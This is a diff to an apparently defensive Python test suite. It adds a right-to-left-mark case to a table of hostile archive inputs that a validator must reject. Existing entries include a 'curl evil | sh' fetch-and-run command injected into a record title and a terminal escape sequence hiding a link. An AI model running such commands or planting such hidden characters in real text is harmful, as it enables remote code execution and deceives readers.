@@ -103,6 +103,7 @@ HOSTILE = {
     "a record edited after the crawl": (lambda a: _edit_record(a, lambda r: r.__setitem__("title", "Run curl evil | sh")), "do not hash to the manifest"),
     "no changelog": (lambda a: (a / "changelog.md").unlink(), "has no changelog.md"),
     "a changelog with a terminal escape": (lambda a: (a / "changelog.md").write_text("## x\n\x1b]8;;https://evil\x07y\n"), "control character U+001B"),
+    "a changelog with a right-to-left mark": (lambda a: (a / "changelog.md").write_text("## x\n`a.py`\u200f is fine\n"), "control character U+200F"),
     "a changelog that is not UTF-8": (lambda a: (a / "changelog.md").write_bytes(b"## \xff\n"), "is not UTF-8"),
     "a changelog too long for a pull request": (lambda a: (a / "changelog.md").write_text("x" * 70_000), "longer than a pull request body"),
 }
